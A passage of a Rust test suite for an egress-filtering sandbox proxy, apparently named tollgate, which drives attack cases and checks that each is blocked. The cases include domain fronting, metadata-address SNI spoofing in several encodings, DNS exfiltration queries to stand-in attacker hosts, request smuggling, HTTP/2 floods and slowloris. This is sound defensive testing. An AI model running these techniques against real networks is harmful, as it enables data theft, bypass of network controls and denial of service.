//! The attack suite: the cases of `THREATS.md`, each run from inside a real
//! sandbox against a real daemon, each decided on evidence gathered outside
//! tollgate — packets the lab's canary saw, connections and request bytes
//! the recording origins received, queries the scripted authoritative DNS
//! server received, connections a listener in another sandbox accepted,
//! status codes of the API. The clients are `tests/attacks/attack.py`
//! (standard-library Python run inside the sandbox) and curl.
//!
//! Prints one table (case, family, expected, observed, PASS/FAIL) and a last
//! line `attacks: N passed, M failed`; any failure fails the test.
//! `./scripts/attacks` runs it alone.

use std::collections::HashMap;
use std::net::IpAddr;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::PathBuf;
use std::time::Duration;

use http::{Method, StatusCode};
use serde_json::json;
use tollgate_tests::daemon::{Daemon, KEY_DEFAULT, KEY_OTHER};
use tollgate_tests::lab::{Canary, METADATA4, PRIVATE4, PUBLIC4, PUBLIC6};
use tollgate_tests::origin::{CertKind, Origin, OriginSpec};
use tollgate_tests::privileged::pids_with_cmdline;
use tollgate_tests::upstream::{Answer, ScriptedDns, TestCa};

const DNS: &str = "198.51.100.53";
const SECRET: &str = "Bearer sk-attack-suite-0123456789abcdef";

/// One row of the report.
struct Row {
    name: &'static str,
    family: &'static str,
    expected: &'static str,
    observed: String,
    pass: bool,
}

/// What every case may look at.
struct World {
    d: Daemon,
    origins: HashMap<&'static str, Origin>,
    dns: ScriptedDns,
    custom: String,
    allowall: String,
    deny: String,
    other: String,
    script: PathBuf,
}

impl World {
    fn canary(&self) -> Canary {
        self.d.lab.canary.clone()
    }

    /// Runs `cmd` in sandbox `id`; its stdout, trimmed (stderr appended
    /// when stdout is empty).
    fn sh(&mut self, id: &str, cmd: &str) -> String {
        let (_, out, err) = self.d.sh(id, cmd, 120);
        let out = out.trim().to_owned();
        if out.is_empty() {
            err.trim().lines().last().unwrap_or("").to_owned()
        } else {
            out
        }
    }

    /// `attack.py <args>` in sandbox `id`. Panics (the case fails) when
    /// the client did not run: a case decided on "nothing arrived" must
    /// not pass because nothing was sent.
    fn py(&mut self, id: &str, args: &str) -> String {
        let cmd = format!(
            "ATTACK_SECRET='{SECRET}' /usr/bin/python3 {} {args}",
            self.script.display()
        );
        let id = id.to_owned();
        let out = self.sh(&id, &cmd);
        assert!(
            !out.is_empty()
                && !out.contains("can't open file")
                && !out.contains("Traceback")
                && !out.starts_with("error:KeyError"),
            "the attack client did not run: {out:?}"
        );
        out
    }

    /// Writes `text` to `path` inside sandbox `id` (its private /tmp: the
    /// host's /tmp, where a checkout may live, is not visible there).
    fn upload(&mut self, id: &str, path: &str, text: &str) {
        let cmd = format!("cat > {path} <<'TOLLGATE_ATTACK_EOF'\n{text}\nTOLLGATE_ATTACK_EOF");
        let (code, _, err) = self.d.sh(id, &cmd, 30);
        assert_eq!(code, 0, "upload {path} into {id}: {err}");
    }

    fn origin(&self, name: &str) -> &Origin {
        &self.origins[name]
    }

    fn clear(&self) {
        self.d.lab.canary.clear();
        self.d.lab.host_canary.clear();
        for o in self.origins.values() {
            o.clear();
        }
    }

    /// The daemon's resident memory (KiB) and open descriptors.
    fn daemon_usage(&self) -> (u64, usize) {
        let needle = self.d.state_dir.to_string_lossy().into_owned();
        let pid = pids_with_cmdline("serve --listen")
            .into_iter()
            .filter(|p| {
                std::fs::read(format!("/proc/{p}/cmdline"))
                    .map(|c| String::from_utf8_lossy(&c).contains(&needle))
                    .unwrap_or(false)
            })
            .min()
            .expect("daemon pid");
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        let rss = status
            .lines()
            .find(|l| l.starts_with("VmRSS:"))
            .and_then(|l| l.split_whitespace().nth(1)?.parse().ok())
            .unwrap_or(0);
        let fds = std::fs::read_dir(format!("/proc/{pid}/fd"))
            .map(|d| d.count())
            .unwrap_or(0);
        (rss, fds)
    }

    /// The well-behaved neighbour still gets through.
    fn neighbour_ok(&mut self) -> bool {
        let other = self.other.clone();
        self.sh(
            &other,
            "curl -s --max-time 10 -o /dev/null -w '%{http_code}' https://api.test/hello",
        ) == "200"
    }
}

fn ip(s: &str) -> IpAddr {
    s.parse().expect("ip")
}

fn config(ca: &TestCa) -> String {
    format!(
        r#"
[[organizations]]
name = "default"
api_keys = []
max_sandboxes = 10

[[organizations]]
name = "other"
api_keys = ["{KEY_OTHER}"]
max_sandboxes = 2

[host]
vcpu = 64
memory_mib = 65536

[network]
pool = "10.218.0.0/20"

[dns]
upstreams = ["{DNS}:53"]

[proxy]
upstream_ca_file = "{}"
detect_timeout_ms = 3000
"#,
        ca.file.display()
    )
}

fn setup() -> World {
    let ca = TestCa::new("attacks");
    let d = Daemon::start("attacks", &config(&ca));
    let mut origins = HashMap::new();
    let mut table = HashMap::new();
    let hosts: [(&'static str, &str, CertKind); 7] = [
        ("api.test", "198.51.100.40", CertKind::Valid),
        ("allowed.test", "198.51.100.41", CertKind::Valid),
        ("evil.test", "198.51.100.42", CertKind::Valid),
        ("expired.test", "198.51.100.43", CertKind::Expired),
        (
            "wrongname.test",
            "198.51.100.44",
            CertKind::WrongHost("not-wrongname.test".into()),
        ),
        ("selfsigned.test", "198.51.100.45", CertKind::SelfSigned),
        ("www.wild.test", "198.51.100.46", CertKind::Valid),
    ];
    for (name, addr, cert) in hosts {
        d.lab.add_upstream_addr(ip(addr));
        let spec = OriginSpec::new(&[name], ip(addr))
            .cert(cert)
            .tls_ports(&[443, 8443])
            .http_ports(&[80]);
        origins.insert(name, Origin::start(&d.lab, &ca, spec));
        table.insert(name.to_string(), Answer::Fixed(vec![ip(addr)], 60));
    }
    // Names that resolve to what the floor and private ranges forbid.
    table.insert(
        "meta.wild.test".into(),
        Answer::Fixed(vec![IpAddr::V4(METADATA4)], 60),
    );
    table.insert(
        "rebind.wild.test".into(),
        Answer::Rebind(vec![ip("198.51.100.46")], vec![IpAddr::V4(PRIVATE4)]),
    );
    d.lab.add_upstream_addr(ip(DNS));
    let dns = ScriptedDns::start(&d.lab, ip(DNS), table);
    let script = PathBuf::from("/tmp/attack.py");
    let mut w = World {
        d,
        origins,
        dns,
        custom: String::new(),
        allowall: String::new(),
        deny: String::new(),
        other: String::new(),
        script,
    };
    let transforms: Vec<_> = [
        "api.test",
        "expired.test",
        "wrongname.test",
        "selfsigned.test",
    ]
    .iter()
    .map(|d| json!({"domain": d, "inject_headers": {"Authorization": SECRET}}))
    .collect();
    w.custom = w.d.create_sandbox(&json!({
        "mode": "custom",
        "allow_domains": ["allowed.test", "*.wild.test"],
        "transforms": transforms,
    }));
    w.allowall = w.d.create_sandbox(&json!({"mode": "allow-all"}));
    w.deny = w.d.create_sandbox(&json!({"mode": "deny-all"}));
    w.other = w.d.create_sandbox(&json!({
        "mode": "custom",
        "transforms": [{"domain": "api.test", "inject_headers": {"Authorization": SECRET}}],
    }));
    for id in [
        w.custom.clone(),
        w.allowall.clone(),
        w.deny.clone(),
        w.other.clone(),
    ] {
        w.upload(&id, "/tmp/attack.py", include_str!("../attacks/attack.py"));
    }
    w
}

/// The sandbox `id` asks api.test for `path`, an answer that reflects the
/// request: passes when the answer was 200, the secret
/// (raw or base64) never reached the sandbox, and it was injected upstream.
fn reflected_secret(w: &mut World, id: &str, path: &str) -> (bool, String) {
    let o = w.py(id, &format!("get api.test {path}"));
    let injected = w
        .origin("api.test")
        .requests()
        .last()
        .is_some_and(|r| r.header("authorization") == Some(SECRET));
    (
        o.contains("statuses:200") && o.contains("leaked:False") && injected,
        format!("{o}; injected upstream {injected}"),
    )
}

fn check(
    rows: &mut Vec<Row>,
    w: &mut World,
    name: &'static str,
    family: &'static str,
    expected: &'static str,
    f: impl FnOnce(&mut World) -> (bool, String),
) {
    w.clear();
    let (pass, observed) = match catch_unwind(AssertUnwindSafe(|| f(w))) {
        Ok(r) => r,
        Err(p) => (
            false,
            format!(
                "panicked: {}",
                p.downcast_ref::<String>()
                    .cloned()
                    .or_else(|| p.downcast_ref::<&str>().map(|s| s.to_string()))
                    .unwrap_or_default()
            ),
        ),
    };
    rows.push(Row {
        name,
        family,
        expected,
        observed,
        pass,
    });
}

/// Packets the canary saw for `dst` after a short settle.
fn seen_to(c: &Canary, dst: IpAddr) -> usize {
    std::thread::sleep(Duration::from_millis(300));
    c.to(dst).len()
}

#[test]
fn attack_suite() {
    let mut w = setup();
    let mut rows = Vec::new();
    let (custom, allowall, deny, other) = (
        w.custom.clone(),
        w.allowall.clone(),
        w.deny.clone(),
        w.other.clone(),
    );

    // === domain fronting ===
    check(
        &mut rows,
        &mut w,
        "sni-api-host-evil-h1",
        "fronting",
        "421, evil.test 0 connections",
        |w| {
            let o = w.py(&custom, "h1 api.test fronting-host");
            let evil = w.origin("evil.test").connection_count();
            let api_reqs = w.origin("api.test").requests().len();
            (
                o.contains("statuses:421") && evil == 0 && api_reqs == 0,
                format!("{o}; evil conns {evil}; api requests {api_reqs}"),
            )
        },
    );
    check(
        &mut rows,
        &mut w,
        "h2-authority-evil",
        "fronting",
        "421 on the stream, evil.test 0 connections",
        |w| {
            let o = w.py(&custom, "h2 api.test authority-evil");
            let evil = w.origin("evil.test").connection_count();
            (
                o.contains("statuses:421") && evil == 0,
                format!("{o}; evil conns {evil}"),
            )
        },
    );
    check(
        &mut rows,
        &mut w,
        "h2-coalescing-second-authority",
        "fronting",
        "2nd stream 421, allowed.test not reached through api.test",
        |w| {
            let o = w.py(&custom, "h2 api.test coalesce-allowed");
            let allowed = w.origin("allowed.test").connection_count();
            (
                o.contains("421") && allowed == 0,
                format!("{o}; allowed.test conns {allowed}"),
            )
        },
    );
    check(
        &mut rows,
        &mut w,
        "pipelined-second-host-evil",
        "fronting",
        "1st 200, 2nd never served (4xx or closed); origin sees 1 request",
        |w| {
            let o = w.py(&custom, "h1 api.test pipelined-evil-host");
            let reqs = w.origin("api.test").requests();
            let smuggled = reqs
                .iter()
                .filter(|r| r.target.contains("smuggled"))
                .count();
            let evil = w.origin("evil.test").connection_count();
            let second_refused = o.starts_with("statuses:200 ") || o.starts_with("statuses:200,4");
            (
                second_refused && reqs.len() == 1 && smuggled == 0 && evil == 0,
                format!(
                    "{o}; origin requests {}; smuggled {smuggled}; evil {evil}",
                    reqs.len()
                ),
            )
        },
    );
    check(
        &mut rows,
        &mut w,
        "absolute-uri-evil-host-api",
        "fronting",
        "refused; evil.test 0 connections",
        |w| {
            let o = w.py(&custom, "h1 api.test absolute-evil");
            let evil = w.origin("evil.test").connection_count();
            let smuggled = w
                .origin("api.test")
                .requests()
                .iter()
                .filter(|r| r.target.contains("smuggled"))
                .count();
            (
                o.contains("statuses:4") && evil == 0 && smuggled == 0,
                format!("{o}; evil {evil}; at api {smuggled}"),
            )
        },
    );
    check(
        &mut rows,
        &mut w,
        "plaintext-host-evil",
        "fronting",
        "403, evil.test 0 connections",
        |w| {
            let o = w.sh(&custom, "curl -s -o /dev/null -w '%{http_code}' --max-time 10 -H 'Host: evil.test' http://198.51.100.41/");
            let evil = w.origin("evil.test").connection_count();
            (o == "403" && evil == 0, format!("http {o}; evil {evil}"))
        },
    );

    // === SNI spoofing to forbidden destinations ===
    check(
        &mut rows,
        &mut w,
        "sni-allowed-to-metadata",
        "sni-spoofing",
        "dropped by the floor: 0 packets to 169.254.169.254, nothing dialled",
        |w| {
            let o = w.py(
                &custom,
                &format!("hello {METADATA4} 443 allowed.test plain"),
            );
            let to_dst = seen_to(&w.canary(), IpAddr::V4(METADATA4));
            let evil = w.origin("evil.test").connection_count();
            (
                to_dst == 0 && evil == 0 && o != "serverhello",
                format!("{o}; packets to metadata: {to_dst}"),
            )
        },
    );
    for (name, dst) in [
        ("sni-allowed-to-private", PRIVATE4.to_string()),
        ("sni-allowed-to-evil-ip", "198.51.100.42".to_string()),
    ] {
        check(
            &mut rows,
            &mut w,
            name,
            "sni-spoofing",
            "dialled by name only: the destination IP gets 0 packets",
            |w| {
                let o = w.py(&custom, &format!("hello {dst} 443 allowed.test plain"));
                let c = w.canary();
                let to_dst = seen_to(&c, ip(&dst));
                let evil = w.origin("evil.test").connection_count();
                let allowed = w.origin("allowed.test").connection_count();
                (
                    to_dst == 0 && evil == 0 && allowed >= 1,
                    format!("{o}; packets to {dst}: {to_dst}; allowed.test conns {allowed}"),
                )
            },
        );
    }
    check(
        &mut rows,
        &mut w,
        "sni-to-host-service",
        "sni-spoofing",
        "host canary 0 contacts",
        |w| {
            let o = w.py(&custom, "hello 192.0.2.1 7777 allowed.test plain");
            std::thread::sleep(Duration::from_millis(300));
            let host = w.d.lab.host_canary.seen().len();
            (host == 0, format!("{o}; host canary {host}"))
        },
    );
    check(
        &mut rows,
        &mut w,
        "no-sni-custom",
        "sni-spoofing",
        "denied, 0 packets to the destination",
        |w| {
            let o = w.py(&custom, &format!("hello {PUBLIC4} 443 - plain"));
            let n = seen_to(&w.canary(), IpAddr::V4(PUBLIC4));
            (n == 0, format!("{o}; packets {n}"))
        },
    );
    check(
        &mut rows,
        &mut w,
        "ip-literal-sni",
        "sni-spoofing",
        "denied, 0 packets",
        |w| {
            let o = w.py(&custom, &format!("hello {PUBLIC4} 443 {PUBLIC4} plain"));
            let n = seen_to(&w.canary(), IpAddr::V4(PUBLIC4));
            (n == 0, format!("{o}; packets {n}"))
        },
    );

    // === the floor, in every encoding (allow-all sandbox) ===
    for (name, dst, port) in [
        ("floor-metadata-v4", "169.254.169.254", "80"),
        ("floor-ipv4-mapped", "::ffff:169.254.169.254", "80"),
        ("floor-nat64", "64:ff9b::a9fe:a9fe", "80"),
        ("floor-6to4", "2002:a9fe:a9fe::1", "80"),
        ("floor-teredo", "2001:0:4136:e378:8000:63bf:5601:5601", "80"),
        ("floor-loopback", "127.0.0.1", "7777"),
    ] {
        check(
            &mut rows,
            &mut w,
            name,
            "floor",
            "0 packets to the address, even in allow-all",
            |w| {
                let o = w.py(&allowall, &format!("tcp {dst} {port}"));
                let c = w.canary();
                std::thread::sleep(Duration::from_millis(300));
                let n = c
                    .seen()
                    .iter()
                    .filter(|s| s.dst == ip(dst) || s.dst == IpAddr::V4(METADATA4))
                    .count();
                let host = w.d.lab.host_canary.seen().len();
                (
                    n == 0 && host == 0,
                    format!("{o}; packets {n}; host {host}"),
                )
            },
        );
    }
    for (name, host) in [
        ("floor-decimal-host", "2852039166"),
        ("floor-octal-host", "0251.0376.0251.0376"),
        ("floor-hex-host", "0xa9fea9fe"),
    ] {
        check(
            &mut rows,
            &mut w,
            name,
            "floor",
            "403, 0 packets to 169.254.169.254",
            |w| {
                let o = w.sh(&allowall, &format!("curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 -H 'Host: {host}' http://{PUBLIC4}/"));
                let n = seen_to(&w.canary(), IpAddr::V4(METADATA4));
                (
                    n == 0 && o.len() == 3 && o != "200",
                    format!("http {o}; metadata packets {n}"),
                )
            },
        );
    }
    check(
        &mut rows,
        &mut w,
        "floor-name-resolving-to-metadata",
        "floor",
        "denied, 0 packets to 169.254.169.254",
        |w| {
            let o = w.sh(
                &custom,
                "curl -s -o /dev/null -w '%{http_code}' --max-time 10 http://meta.wild.test/",
            );
            let n = seen_to(&w.canary(), IpAddr::V4(METADATA4));
            (
                n == 0 && o.len() == 3 && o != "200",
                format!("http {o}; metadata packets {n}"),
            )
        },
    );

    // === DNS ===
    check(
        &mut rows,
        &mut w,
        "dns-rebinding-ttl0",
        "dns",
        "0 packets to the private answer over 20 rounds",
        |w| {
            let q0 = w.dns.count("rebind.wild.test");
            let o = w.py(&custom, "rebind rebind.wild.test 20");
            let n = seen_to(&w.canary(), IpAddr::V4(PRIVATE4));
            let q = w.dns.count("rebind.wild.test") - q0;
            // Both answers were handed out (the flip happened) and the private
            // one was never dialled.
            (
                n == 0 && q >= 2,
                format!("{o}; private packets {n}; authoritative queries {q}"),
            )
        },
    );
    for (name, qname, qtype, transport, edns) in [
        (
            "dns-exfil-query-name",
            "c2vjcmv0lwrhdge.attacker.test",
            "A",
            "udp",
            "no",
        ),
        ("dns-exfil-txt", "chunk1.attacker.test", "TXT", "udp", "no"),
        (
            "dns-exfil-null",
            "chunk2.attacker.test",
            "NULL",
            "udp",
            "no",
        ),
        ("dns-exfil-tcp", "chunk3.attacker.test", "A", "tcp", "no"),
        (
            "dns-exfil-edns-padding",
            "chunk4.attacker.test",
            "A",
            "udp",
            "edns",
        ),
    ] {
        check(
            &mut rows,
            &mut w,
            name,
            "dns",
            "NXDOMAIN/REFUSED, 0 queries at the authoritative server",
            |w| {
                let q0 = w.dns.count(qname);
                let o = w.py(
                    &custom,
                    &format!("dns 10.0.2.2 {qname} {qtype} {transport} {edns}"),
                );
                std::thread::sleep(Duration::from_millis(200));
                let q = w.dns.count(qname) - q0;
                (
                    q == 0 && (o.contains("rcode:3") || o.contains("rcode:5")),
                    format!("{o}; upstream queries {q}"),
                )
            },
        );
    }
    for (name, transport) in [
        ("dns-direct-external-udp", "udp"),
        ("dns-direct-external-tcp", "tcp"),
    ] {
        check(
            &mut rows,
            &mut w,
            name,
            "dns",
            "no answer, 0 queries at the external server",
            |w| {
                let q0 = w.dns.count("direct.attacker.test");
                let o = w.py(
                    &custom,
                    &format!("dns {DNS} direct.attacker.test A {transport} no"),
                );
                std::thread::sleep(Duration::from_millis(200));
                let q = w.dns.count("direct.attacker.test") - q0;
                (
                    q == 0 && !o.starts_with("rcode"),
                    format!("{o}; queries {q}"),
                )
            },
        );
    }
    check(
        &mut rows,
        &mut w,
        "dns-deny-all",
        "dns",
        "no answer or REFUSED, 0 queries upstream",
        |w| {
            let q0 = w.dns.count("allowed.test");
            let o = w.py(&deny, "dns 10.0.2.2 allowed.test A udp no");
            std::thread::sleep(Duration::from_millis(200));
            let q = w.dns.count("allowed.test") - q0;
            (
                (o.contains("rcode:5") || o.starts_with("no-answer")) && q == 0,
                format!("{o}; queries {q}"),
            )
        },
    );

    // === QUIC, other UDP, IPv6 paths ===
    check(
        &mut rows,
        &mut w,
        "quic-to-allowed",
        "udp",
        "dropped: 0 UDP packets upstream",
        |w| {
            let o = w.py(&custom, "quic 198.51.100.41");
            std::thread::sleep(Duration::from_millis(300));
            let n = w.canary().seen().iter().filter(|s| s.proto == 17).count();
            (n == 0, format!("{o}; udp packets {n}"))
        },
    );
    check(
        &mut rows,
        &mut w,
        "udp-outside-allow-cidrs",
        "udp",
        "dropped: 0 UDP packets upstream",
        |w| {
            let o = w.py(&custom, &format!("udp {PUBLIC4} 9999"));
            std::thread::sleep(Duration::from_millis(300));
            let n = w.canary().seen().iter().filter(|s| s.proto == 17).count();
            (n == 0, format!("{o}; udp packets {n}"))
        },
    );
    check(
        &mut rows,
        &mut w,
        "ipv6-direct-custom",
        "ipv6",
        "0 packets to the v6 address",
        |w| {
            let o = w.py(&custom, &format!("tcp {PUBLIC6} 443 hello"));
            let n = seen_to(&w.canary(), IpAddr::V6(PUBLIC6));
            (n == 0, format!("{o}; packets {n}"))
        },
    );
    check(
        &mut rows,
        &mut w,
        "deny-all-tcp",
        "modes",
        "0 packets to any address",
        |w| {
            let o = w.py(&deny, &format!("tcp {PUBLIC4} 80"));
            std::thread::sleep(Duration::from_millis(300));
            let n = w.canary().seen().len();
            (n == 0, format!("{o}; packets {n}"))
        },
    );

    // === ClientHellos ===
    for (name, shape) in [
        ("hello-split-records", "split"),
        ("hello-1-byte-writes", "bytewise"),
        ("hello-post-quantum-size", "pq"),
    ] {
        check(
            &mut rows,
            &mut w,
            name,
            "client-hello",
            "reassembled: allowed.test reached by name",
            |w| {
                let o = w.py(
                    &custom,
                    &format!("hello 198.51.100.41 443 allowed.test {shape}"),
                );
                std::thread::sleep(Duration::from_millis(300));
                let n = w.origin("allowed.test").connection_count();
                (
                    n >= 1 && o == "serverhello",
                    format!("{o}; allowed.test conns {n}"),
                )
            },
        );
    }
    check(
        &mut rows,
        &mut w,
        "hello-oversized",
        "client-hello",
        "alert, 0 upstream connections",
        |w| {
            let o = w.py(&custom, "hello 198.51.100.41 443 allowed.test oversized");
            let n = w.origin("allowed.test").connection_count();
            (
                n == 0 && (o.starts_with("alert") || o == "closed" || o.starts_with("reset")),
                format!("{o}; allowed.test conns {n}"),
            )
        },
    );
    check(
        &mut rows,
        &mut w,
        "hello-denied-sni",
        "client-hello",
        "alert, evil.test 0 connections",
        |w| {
            let o = w.py(&custom, "hello 198.51.100.42 443 evil.test plain");
            let n = w.origin("evil.test").connection_count();
            (
                n == 0 && (o.starts_with("alert") || o == "closed"),
                format!("{o}; evil conns {n}"),
            )
        },
    );
    check(
        &mut rows,
        &mut w,
        "ech-outer-sni-allowed",
        "client-hello",
        "decided on the outer SNI: allowed.test reached, nothing else",
        |w| {
            let o = w.py(&custom, "hello 198.51.100.42 443 allowed.test ech");
            std::thread::sleep(Duration::from_millis(300));
            let allowed = w.origin("allowed.test").connection_count();
            let evil = w.origin("evil.test").connection_count();
            (
                allowed >= 1 && evil == 0,
                format!("{o}; allowed {allowed}; evil {evil}"),
            )
        },
    );

    // === HTTP request smuggling (intercepted api.test) ===
    // Content-Length with Transfer-Encoding: hyper reads the body as chunked
    // (RFC 9112 6.3), drops Content-Length and closes the connection after
    // the response, so what follows the chunked body is never read as a
    // request.
    for case in ["cl-te", "te-cl", "te-trailing-space"] {
        let name: &'static str = Box::leak(format!("smuggling-{case}").into_boxed_str());
        check(
            &mut rows,
            &mut w,
            name,
            "smuggling",
            "one canonical chunked request upstream, no CL, connection closed, nothing smuggled",
            |w| {
                let o = w.py(&custom, &format!("h1 api.test {case}"));
                std::thread::sleep(Duration::from_millis(200));
                let reqs = w.origin("api.test").requests();
                let bad = reqs
                    .iter()
                    .filter(|r| {
                        r.target.contains("smuggled")
                            || r.mentions("SMUGGLED")
                            || r.header("content-length").is_some()
                    })
                    .count();
                (
                    reqs.len() <= 1 && bad == 0 && !o.contains(",") && !o.contains("error"),
                    format!("{o}; origin requests {}; smuggled or CL {bad}", reqs.len()),
                )
            },
        );
    }
    for case in ["te-obfuscated", "cl-duplicate", "cl-plus", "obs-fold"] {
        let name: &'static str = Box::leak(format!("smuggling-{case}").into_boxed_str());
        check(
            &mut rows,
            &mut w,
            name,
            "smuggling",
            "400, nothing smuggled reaches the origin",
            |w| {
                let o = w.py(&custom, &format!("h1 api.test {case}"));
                std::thread::sleep(Duration::from_millis(200));
                let reqs = w.origin("api.test").requests();
                let bad = reqs
                    .iter()
                    .filter(|r| r.target.contains("smuggled") || r.mentions("SMUGGLED"))
                    .count();
                (
                    o.starts_with("statuses:400") && bad == 0,
                    format!("{o}; origin requests {}; smuggled {bad}", reqs.len()),
                )
            },
        );
    }
    for (case, expect) in [
        ("te-header", "a stream or connection error"),
        ("crlf-value", "a stream or connection error"),
        (
            "cl-mismatch",
            "a stream error; the origin never gets a whole body",
        ),
    ] {
        let name: &'static str = Box::leak(format!("h2-{case}").into_boxed_str());
        check(&mut rows, &mut w, name, "smuggling", expect, |w| {
            let o = w.py(&custom, &format!("h2 api.test {case}"));
            std::thread::sleep(Duration::from_millis(200));
            let reqs = w.origin("api.test").requests();
            let bad = reqs
                .iter()
                .filter(|r| {
                    r.header("transfer-encoding").is_some()
                        || r.mentions("evil.test")
                        || (case == "cl-mismatch" && r.body_error.is_none())
                })
                .count();
            (
                (o.contains("rst:True") || o.contains("goaway:True") || o.contains("statuses:400"))
                    && bad == 0,
                format!("{o}; origin requests {}; bad {bad}", reqs.len()),
            )
        });
    }

    // === h2 floods: bounded, and the neighbour keeps working ===
    let (rss0, fds0) = w.daemon_usage();
    for case in [
        "rapid-reset",
        "continuation-flood",
        "settings-flood",
        "ping-flood",
    ] {
        let name: &'static str = Box::leak(format!("h2-{case}").into_boxed_str());
        check(
            &mut rows,
            &mut w,
            name,
            "h2-dos",
            "GOAWAY/close; daemon RSS +<64 MiB, fds <+64; neighbour 200",
            |w| {
                let o = w.py(&custom, &format!("h2 api.test {case}"));
                let reqs = w.origin("api.test").requests().len();
                let (rss, fds) = w.daemon_usage();
                let ok_n = w.neighbour_ok();
                let bounded = rss < rss0 + 64 * 1024 && fds < fds0 + 64;
                let closed =
                    o.contains("goaway:True") || case == "ping-flood" || case == "settings-flood";
                (closed && bounded && ok_n && reqs < 1000, format!("{o}; origin requests {reqs}; rss {rss0}→{rss} KiB; fds {fds0}→{fds}; neighbour {ok_n}"))
            },
        );
    }

    for case in ["header-100k", "headers-1000"] {
        let name: &'static str = Box::leak(format!("oversized-head-{case}").into_boxed_str());
        check(&mut rows, &mut w, name, "h1-dos", "431, or closed while the head is still sent; origin 0 requests; bounded; neighbour 200", |w| {
            let (r0, f0) = w.daemon_usage();
            let o = w.py(&custom, &format!("h1 api.test {case}"));
            let n = w.origin("api.test").requests().len();
            let (r1, f1) = w.daemon_usage();
            let ok_n = w.neighbour_ok();
            ((o.starts_with("statuses:431") || o.starts_with("statuses:400") || o.ends_with("send-failed")) && n == 0 && ok_n && r1 < r0 + 64 * 1024 && f1 < f0 + 64,
             format!("{o}; origin requests {n}; rss {r0}→{r1}; fds {f0}→{f1}; neighbour {ok_n}"))
        });
    }

    // === slowloris ===
    check(
        &mut rows,
        &mut w,
        "slowloris-detection",
        "slowloris",
        "every slow connection closed by the detect deadline; bounded; neighbour 200",
        |w| {
            let (r0, f0) = w.daemon_usage();
            let o = w.py(&custom, "slowloris 198.51.100.41 443 200 6");
            let (r1, f1) = w.daemon_usage();
            let ok_n = w.neighbour_ok();
            let n = w.origin("allowed.test").connection_count();
            let all_closed = o.contains("opened:200 closed:200");
            (
                all_closed && n == 0 && ok_n && r1 < r0 + 64 * 1024 && f1 < f0 + 64,
                format!("{o}; upstream conns {n}; rss {r0}→{r1}; fds {f0}→{f1}; neighbour {ok_n}"),
            )
        },
    );
    check(
        &mut rows,
        &mut w,
        "slowloris-intercepted-headers",
        "slowloris",
        "closed before the head completes; origin 0 requests",
        |w| {
            let o = w.py(&custom, "slow-headers api.test 40");
            let n = w.origin("api.test").requests().len();
            (
                o.starts_with("closed-after") && n == 0,
                format!("{o}; origin requests {n}"),
            )
        },
    );

    // === credentials ===
    check(
        &mut rows,
        &mut w,
        "secret-injected-sandbox-auth-replaced",
        "credentials",
        "origin sees exactly the injected Authorization",
        |w| {
            let o = w.py(&custom, "h1 api.test sandbox-authorization");
            let reqs = w.origin("api.test").requests();
            let auths: Vec<Vec<String>> = reqs
                .iter()
                .map(|r| {
                    r.header_all("authorization")
                        .iter()
                        .map(|s| s.to_string())
                        .collect()
                })
                .collect();
            let proxy_auth = reqs
                .iter()
                .any(|r| r.header("proxy-authorization").is_some());
            let ok = auths.len() == 1 && auths[0] == vec![SECRET.to_string()] && !proxy_auth;
            (
                ok,
                format!(
                    "{o}; origin Authorization {:?}",
                    auths.iter().map(|a| a.len()).collect::<Vec<_>>()
                ),
            )
        },
    );
    check(
        &mut rows,
        &mut w,
        "reflected-secret-scrubbed",
        "credentials",
        "the sandbox never sees the secret (raw or base64)",
        |w| reflected_secret(w, &custom, "/echo"),
    );
    check(
        &mut rows,
        &mut w,
        "reflected-secret-split-across-chunks",
        "credentials",
        "the sandbox never sees the secret the origin sends back in two chunks",
        |w| reflected_secret(w, &custom, "/echo-split"),
    );
    check(
        &mut rows,
        &mut w,
        "sni-allowed-to-other-sandbox",
        "sni-spoofing",
        "dialled by name: the other sandbox's listener accepts 0",
        |w| {
            let lst = format!("/usr/bin/python3 {} listen 9998 6 &", w.script.display());
            let _ = w.d.sh(
                &other,
                &format!("({lst}) > /tmp/listen2.out 2>&1; sleep 0.5; echo started"),
                10,
            );
            // The other sandbox's router uplink (slot 3) and the shared guest address.
            let a = w.py(&custom, "hello 10.218.0.14 9998 allowed.test plain");
            let b = w.py(&custom, "hello 10.0.2.15 9998 allowed.test plain");
            std::thread::sleep(Duration::from_secs(6));
            let got = w.sh(&other, "cat /tmp/listen2.out");
            (
                got.contains("accepted:0"),
                format!("{a} / {b}; listener: {got}"),
            )
        },
    );
    check(
        &mut rows,
        &mut w,
        "redirect-to-evil-not-followed",
        "credentials",
        "302 passed back; evil.test 0 connections",
        |w| {
            let o = w.py(&custom, "get api.test /redirect?to=https://evil.test/steal");
            let evil = w.origin("evil.test").connection_count();
            (
                o.contains("statuses:302") && evil == 0,
                format!("{o}; evil conns {evil}"),
            )
        },
    );
    check(
        &mut rows,
        &mut w,
        "trace-on-transform-domain",
        "credentials",
        "refused, origin 0 requests",
        |w| {
            let o = w.py(&custom, "h1 api.test trace");
            let n = w.origin("api.test").requests().len();
            (
                !o.contains("statuses:200") && n == 0 && o.contains("leaked:False"),
                format!("{o}; origin requests {n}"),
            )
        },
    );
    for name in ["expired.test", "wrongname.test", "selfsigned.test"] {
        let case: &'static str = Box::leak(
            format!("bad-upstream-cert-{}", name.trim_end_matches(".test")).into_boxed_str(),
        );
        check(
            &mut rows,
            &mut w,
            case,
            "upstream-tls",
            "502, 0 request bytes at the origin",
            |w| {
                let o = w.sh(&custom, &format!("curl -s -o /dev/null -w '%{{http_code}}' --max-time 15 https://{name}/echo"));
                std::thread::sleep(Duration::from_millis(200));
                let bytes = w.origin(name).request_bytes();
                let reqs = w.origin(name).requests().len();
                (
                    o == "502" && bytes == 0 && reqs == 0,
                    format!("http {o}; request bytes {bytes}"),
                )
            },
        );
    }

    // === isolation ===
    check(
        &mut rows,
        &mut w,
        "other-sandbox-ca-rejected",
        "isolation",
        "a client trusting only another sandbox's CA refuses; origin 0 requests",
        |w| {
            let path = "/tmp/other-ca.pem";
            // The CA endpoint inside the other sandbox serves its PEM.
            let other_pem = w.sh(&other, "curl -s --max-time 5 http://10.0.2.2/ca.pem");
            w.upload(&custom, path, &other_pem);
            let o = w.sh(&custom, &format!("curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 --cacert {path} https://api.test/echo; echo \" exit=$?\""));
            let n = w.origin("api.test").requests().len();
            (
